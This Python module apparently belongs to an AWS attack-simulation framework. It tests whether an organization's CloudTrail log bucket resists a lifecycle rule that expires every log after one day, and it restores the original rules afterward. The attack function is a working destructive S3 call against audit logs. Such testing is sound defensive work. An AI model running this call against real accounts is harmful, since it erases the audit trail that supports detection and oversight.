"""Let the organization's own logs expire tomorrow, from inside the account that keeps them."""

from bastide.attack.stage import Stage
from bastide.attack.technique import NotPlayable, Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A lifecycle rule empties the organization's log bucket",
    mitre=("T1485.001", "T1562.008"),
    tactic="impact",
    detectors=("GuardDuty Impact:IAMUser/AnomalousBehavior",),
    expected=Prevented("log-archive-bucket-protect"),
    bare="resource",  # the log bucket's own policy says no as well
    where="log-archive",
    source="Amazon S3 API Reference, PutBucketLifecycleConfiguration",
)
RULE = {"ID": "tidy", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}


def _rules(stage: Stage, scene: Scene) -> list[dict[str, object]]:
    s3 = stage.owner(scene["account"]).client("s3")
    try:
        return list(s3.get_bucket_lifecycle_configuration(Bucket=scene["bucket"])["Rules"])
    except s3.exceptions.ClientError as error:
        if error.response["Error"]["Code"] != "NoSuchLifecycleConfiguration":
            raise
        return []


def prepare(stage: Stage) -> Scene:
    """The bucket of the organization's trail, and its rules as they are."""
    management = stage.owner(stage.accounts["management"])
    trails = [
        one for one in management.client("cloudtrail").describe_trails()["trailList"] if one["IsOrganizationTrail"]
    ]
    if not trails:
        raise NotPlayable("the organization has no trail")
    scene: Scene = {"account": stage.accounts["log-archive"], "bucket": trails[0]["S3BucketName"]}
    return {**scene, "before": _rules(stage, scene)}


def attack(stage: Stage, scene: Scene) -> None:
    """Everything expires tomorrow."""
    stage.attacker(scene["account"]).client("s3").put_bucket_lifecycle_configuration(
        Bucket=scene["bucket"], LifecycleConfiguration={"Rules": [RULE]}
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The bucket's rules are the intruder's."""
    return [one["ID"] for one in _rules(stage, scene)] == ["tidy"]


def clean_up(stage: Stage, scene: Scene) -> None:
    """Put the rules back."""
    if not succeeded(stage, scene):
        return
    s3 = stage.owner(scene["account"]).client("s3")
    if scene["before"]:
        s3.put_bucket_lifecycle_configuration(Bucket=scene["bucket"], LifecycleConfiguration={"Rules": scene["before"]})
    else:
        s3.delete_bucket_lifecycle(Bucket=scene["bucket"])
